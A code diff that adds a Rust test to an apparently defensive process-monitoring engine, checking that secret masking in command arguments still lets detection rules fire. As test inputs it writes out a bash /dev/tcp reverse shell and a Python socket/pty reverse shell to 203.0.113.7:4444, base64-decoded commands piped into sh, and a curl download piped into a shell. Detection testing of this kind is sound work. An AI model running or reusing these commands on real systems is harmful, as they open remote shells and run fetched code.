@@ -101,6 +101,37 @@ fn excuse_no_names() {
     assert!(idle.is_empty(), "these give a reason for nothing: {idle:?}");
 }
 
+/// Secrets are masked before rules see them: what stands beside one is seen.
+#[test]
+fn see_what_stands_beside_a_secret() {
+    let trackers = trackers();
+    let schema = trackers.iter().flat_map(|t| &t.events).find(|e| &*e.tracker == "process" && &*e.name == "exec");
+    let mut rules = Rules::new(Arc::new(RuleSet::load(&shipped(), &trackers).set));
+    let shell = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
+    let python = "import socket,pty;s=socket.create_connection(('203.0.113.7',4444));pty.spawn('/bin/sh')";
+    for (path, option, text, wanted) in [
+        ("/bin/bash", "-c", format!("PASSWORD=hunter2; {shell}"), "Shell Told To Connect"),
+        ("/bin/bash", "-c", format!("curl -u me:hunter2 http://h/; {shell}"), "Shell Told To Connect"),
+        ("/bin/bash", "-c", format!("X_TOKEN='hunter2';{shell}"), "Shell Told To Connect"),
+        ("/bin/sh", "-c", ": basic ; echo aWQK|base64 -d|sh".into(), "Encoded Command Decoded And Run"),
+        ("/bin/sh", "-c", "token=abcd;echo aWQK|base64 -d|sh".into(), "Encoded Command Decoded And Run"),
+        ("/bin/sh", "-c", "echo \"visual basic rocks\"; curl http://h/x | sh".into(), "Download Piped Into A Shell"),
+        ("/usr/bin/python3", "-c", format!("password=\"hunter2\";{python}"), "Script Opens A Shell Over The Network"),
+    ] {
+        let mut args = format!("{path}\0{option}\0{text}").into_bytes();
+        ethogram_engine::secrets::mask(&mut args);
+        let args: Vec<String> = args.split(|b| *b == 0).map(|arg| String::from_utf8_lossy(arg).into_owned()).collect();
+        assert!(!args[2].contains("hunter2"), "{}", args[2]);
+        let fields = [
+            ("process.executable.path".to_owned(), vec![path.to_owned()]),
+            ("process.command_args".to_owned(), args.clone()),
+            ("container.name".to_owned(), vec!["web".to_owned()]),
+        ];
+        let matching = rules.matching(&build::event(schema.unwrap(), &fields).unwrap());
+        assert!(matching.iter().any(|rule| &**rule == wanted), "{args:?}: {matching:?}");
+    }
+}
+
 /// One rule that may hold for any file would have the kernel report every open.
 #[test]
 fn leave_the_reads_of_ordinary_files_to_the_kernel() {
